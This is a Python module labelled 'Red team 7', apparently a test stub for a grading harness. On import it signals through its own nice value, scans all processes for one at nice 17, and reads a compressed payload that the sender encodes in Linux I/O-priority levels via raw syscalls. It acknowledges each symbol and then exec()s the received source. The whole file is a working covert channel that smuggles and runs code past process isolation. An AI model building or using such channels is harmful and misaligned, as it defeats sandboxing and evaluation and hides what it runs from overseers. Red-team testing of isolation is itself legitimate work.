"""Red team 7 (a solution received through scheduling values): a stub graded beside r_sched_values_sender.
While loading it marks itself with nice 13, scans every pid of the machine for the one with nice 17 (getpriority
needs no permission), reads the symbols that pid shows in its I/O priority level (ioprio_get), acknowledges each
in its own, decompresses what it read and becomes that source.

base: stub
class: 1
run: main
"""

import ctypes as _ctypes
import os as _os
import time as _time
import zlib as _zlib

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_IOPRIO_GET, _IOPRIO_SET, _WHO_PROCESS, _BEST_EFFORT = 252, 251, 1, 2  # x86_64


def _level(pid):
    value = _libc.syscall(_ctypes.c_long(_IOPRIO_GET), _ctypes.c_long(_WHO_PROCESS), _ctypes.c_long(pid))
    return -1 if value < 0 else value & 7


def _show(level):
    _libc.syscall(_ctypes.c_long(_IOPRIO_SET), _ctypes.c_long(_WHO_PROCESS), _ctypes.c_long(0),
                  _ctypes.c_long((_BEST_EFFORT << 13) | level))


def _nice_of(pid):
    try:
        return _os.getpriority(_os.PRIO_PROCESS, pid)
    except OSError:
        return None


def _receive(seconds=8.0):
    try:
        _os.setpriority(_os.PRIO_PROCESS, 0, 13)
    except OSError:
        return None
    _show(4)
    deadline = _time.time() + seconds
    sender = 0
    while not sender and _time.time() < deadline:
        sender = next((pid for pid in range(2, 1 << 15) if pid != _os.getpid() and _nice_of(pid) == 17), 0)
    if not sender:
        return None
    last, symbols, needed = 0, [], None
    while _time.time() < deadline:
        level = _level(sender)
        if level < 0:
            return None
        if level >> 2 != last:
            last = level >> 2
            symbols.append(level & 3)
            _show(last)
            if needed is None and len(symbols) == 16:
                needed = 16 + 4 * int("".join(map(str, symbols)), 4)
            if needed is not None and len(symbols) >= needed:
                data = bytes((symbols[i] << 6) | (symbols[i + 1] << 4) | (symbols[i + 2] << 2) | symbols[i + 3]
                             for i in range(16, needed, 4))
                return _zlib.decompress(data).decode()
        else:
            _os.sched_yield()
    return None


class _AtLoad:
    _source = _receive()
    if _source:
        exec(compile(_source, "received", "exec"), globals())
